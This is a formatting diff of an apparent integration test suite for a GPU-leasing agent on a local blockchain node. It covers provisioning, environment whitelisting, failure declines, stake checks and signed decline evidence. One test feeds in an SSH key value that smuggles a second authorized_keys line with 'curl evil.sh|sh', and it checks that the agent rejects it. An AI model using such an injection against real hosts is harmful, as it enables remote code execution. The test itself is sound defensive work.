@@ -70,7 +70,15 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     expect(printed).toMatchObject({ user: `lease${leaseId}`, gpuIndices: "0,1" });
     // The script saw the decrypted request and the lease terms.
     const input = JSON.parse(await readFile(path.join(dir, "test-state/envs", `lease-${leaseId}`, "lease.json"), "utf8"));
-    expect(input).toMatchObject({ event: "provision", leaseId: leaseId.toString(), gpus: 2, gpuModel: "H100-SXM", gpuIndices: [0, 1], durationHours: 4, pricePerGpuHour: "2" });
+    expect(input).toMatchObject({
+      event: "provision",
+      leaseId: leaseId.toString(),
+      gpus: 2,
+      gpuModel: "H100-SXM",
+      gpuIndices: [0, 1],
+      durationHours: 4,
+      pricePerGpuHour: "2",
+    });
     expect(input.sshPublicKey).toMatch(/^ssh-ed25519 /);
     expect((await market.getLease(leaseId)).status).toBe(2);
     expect(await linesOf("provision-runs.log")).toEqual([leaseId.toString()]);
@@ -79,7 +87,11 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     expect(scriptEnv).toContain("GRIDLEASE_LEASE_ID");
     expect(scriptEnv).toContain("PATH");
     const allowed = new Set(["PATH", "HOME", "LANG", "LC_ALL", "TZ", "GRIDLEASE_TEST_STATE", "PWD", "SHLVL", "_", "OLDPWD"]);
-    expect(scriptEnv.filter((name) => !allowed.has(name) && !/^GRIDLEASE_(EVENT|LEASE_ID|GPUS|GPU_INDICES|GPU_UUIDS|DURATION_HOURS|SSH_PUBLIC_KEY|RENTER|REASON)$/.test(name))).toEqual([]);
+    expect(
+      scriptEnv.filter(
+        (name) => !allowed.has(name) && !/^GRIDLEASE_(EVENT|LEASE_ID|GPUS|GPU_INDICES|GPU_UUIDS|DURATION_HOURS|SSH_PUBLIC_KEY|RENTER|REASON)$/.test(name),
+      ),
+    ).toEqual([]);
     expect(host.env.GRIDLEASE_PASSPHRASE).toBeTruthy(); // the agent was given one, and the script did not get it
   });
 
@@ -126,7 +138,9 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     const granted: number[][] = [];
     for (const id of leases) {
       const accepted = await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", id))[0]);
-      granted.push(openJson<{ gpuIndices: string }>(market.renterKeys, accepted.args.encryptedAccess!, market.accessContext(id)).gpuIndices.split(",").map(Number));
+      granted.push(
+        openJson<{ gpuIndices: string }>(market.renterKeys, accepted.args.encryptedAccess!, market.accessContext(id)).gpuIndices.split(",").map(Number),
+      );
     }
     expect(granted.map((g) => g.length)).toEqual([3, 3, 2]);
     expect(granted.flat().sort()).toEqual([0, 1, 2, 3, 4, 5, 6, 7]);
@@ -136,10 +150,21 @@ describe("gridlease-agent serve against a Hardhat node", () => {
 
   // Issue 12: a failed provisioning used to wait out the accept window, and the renter's reclaim slashed the provider.
   it("declines at once when the provisioning script fails or hangs, logs why, and the provider is not slashed", async () => {
-    const stakeBefore = (await market.publicClient.readContract({ address: market.deployment.registry.address, abi: providerRegistryAbi, functionName: "getProvider", args: [market.provider.address] })).stake;
+    const stakeBefore = (
+      await market.publicClient.readContract({
+        address: market.deployment.registry.address,
+        abi: providerRegistryAbi,
+        functionName: "getProvider",
+        args: [market.provider.address],
+      })
+    ).stake;
     const failing = await market.book({ offerId, providerEncryptionKey, note: "fail" });
     const hanging = await market.book({ offerId, providerEncryptionKey, note: "hang" });
-    await agent.waitForLine(new RegExp(`lease ${failing}: provisioning failed, declining the lease: .*provision\\.sh exited with code 1; stderr: simulated failure: no space left on device`));
+    await agent.waitForLine(
+      new RegExp(
+        `lease ${failing}: provisioning failed, declining the lease: .*provision\\.sh exited with code 1; stderr: simulated failure: no space left on device`,
+      ),
+    );
     await agent.waitForLine(new RegExp(`lease ${hanging}: provisioning failed, declining the lease: .*provision\\.sh timed out after 2s`));
     for (const id of [failing, hanging]) {
       const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", id))[0]);
@@ -148,7 +173,14 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     }
     expect(await market.events("LeaseAccepted", failing)).toEqual([]);
     expect(await market.events("LeaseAccepted", hanging)).toEqual([]);
-    const stakeAfter = (await market.publicClient.readContract({ address: market.deployment.registry.address, abi: providerRegistryAbi, functionName: "getProvider", args: [market.provider.address] })).stake;
+    const stakeAfter = (
+      await market.publicClient.readContract({
+        address: market.deployment.registry.address,
+        abi: providerRegistryAbi,
+        functionName: "getProvider",
+        args: [market.provider.address],
+      })
+    ).stake;
     expect(stakeAfter).toBe(stakeBefore);
     // The half-made environments were cleaned up, and neither lease was provisioned twice.
     const runs = await linesOf("provision-runs.log");
@@ -157,7 +189,9 @@ describe("gridlease-agent serve against a Hardhat node", () => {
 
   it("declines a booking whose request could smuggle a second authorized_keys line, without running the script", async () => {
     const lease = await market.book({ offerId, providerEncryptionKey, sshPublicKey: 'ssh-ed25519 AAAAC3Nza renter\ncommand="curl evil.sh|sh" ssh-rsa AAAAB3' });
-    await agent.waitForLine(new RegExp(`lease ${lease}: declining: the renter's request is malformed \\(sshPublicKey: not a single-line OpenSSH public key\\)`));
+    await agent.waitForLine(
+      new RegExp(`lease ${lease}: declining: the renter's request is malformed \\(sshPublicKey: not a single-line OpenSSH public key\\)`),
+    );
     const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", lease))[0]);
     expect(closed.args.reason).toBe(5); // ProviderFault: full refund
     expect(closed.args.renterRefund).toBe(usdc("4"));
@@ -173,9 +207,25 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     const evidence = await market.waitFor("decline evidence", async () => declineEvidence.find((e) => e.url === `/api/leases/${lease}/decline-evidence`));
     // The revealed secret opens exactly this request, and the provider wallet signed it for this escrow and lease.
     const [booked] = await market.events("LeaseBooked", lease);
-    const opened = JSON.parse(new TextDecoder().decode(openWithSharedSecret(hexToBytes(evidence.body.sharedSecret), hexToBytes(providerEncryptionKey), hexToBytes(booked.args.encryptedRequest!), { kind: "request", chainId: 31337, escrow: market.deployment.escrow.address, offerId, renter: market.renter.address })));
+    const opened = JSON.parse(
+      new TextDecoder().decode(
+        openWithSharedSecret(hexToBytes(evidence.body.sharedSecret), hexToBytes(providerEncryptionKey), hexToBytes(booked.args.encryptedRequest!), {
+          kind: "request",
+          chainId: 31337,
+          escrow: market.deployment.escrow.address,
+          offerId,
+          renter: market.renter.address,
+        }),
+      ),
+    );
     expect(opened.renterEncryptionKey).toBe(`0x${"00".repeat(32)}`);
-    const signer = await recoverTypedDataAddress({ domain: declineEvidenceDomain(31337, market.deployment.escrow.address), types: declineEvidenceTypes, primaryType: "DeclineEvidence", message: { leaseId: lease, sharedSecret: evidence.body.sharedSecret }, signature: evidence.body.signature });
+    const signer = await recoverTypedDataAddress({
+      domain: declineEvidenceDomain(31337, market.deployment.escrow.address),
+      types: declineEvidenceTypes,
+      primaryType: "DeclineEvidence",
+      message: { leaseId: lease, sharedSecret: evidence.body.sharedSecret },
+      signature: evidence.body.signature,
+    });
     expect(signer).toBe(market.provider.address);
     await new Promise((r) => setTimeout(r, 1000)); // five more polls
     expect(await linesOf("provision-runs.log")).not.toContain(lease.toString());
@@ -251,7 +301,12 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     const relist = await runCli(["-c", host.configPath, "list"], host.env);
     expect(relist.stdout).toContain("Offer 1 (8× H100-SXM): price updated to 2.35 USDC/GPU/h.");
     expect(relist.stdout).toContain("Offers: 1\n");
-    const offer = await market.publicClient.readContract({ address: market.deployment.registry.address, abi: providerRegistryAbi, functionName: "getOffer", args: [1n] });
+    const offer = await market.publicClient.readContract({
+      address: market.deployment.registry.address,
+      abi: providerRegistryAbi,
+      functionName: "getOffer",
+      args: [1n],
+    });
     expect(offer.spec.pricePerGpuHour).toBe(usdc("2.35"));
   });
 
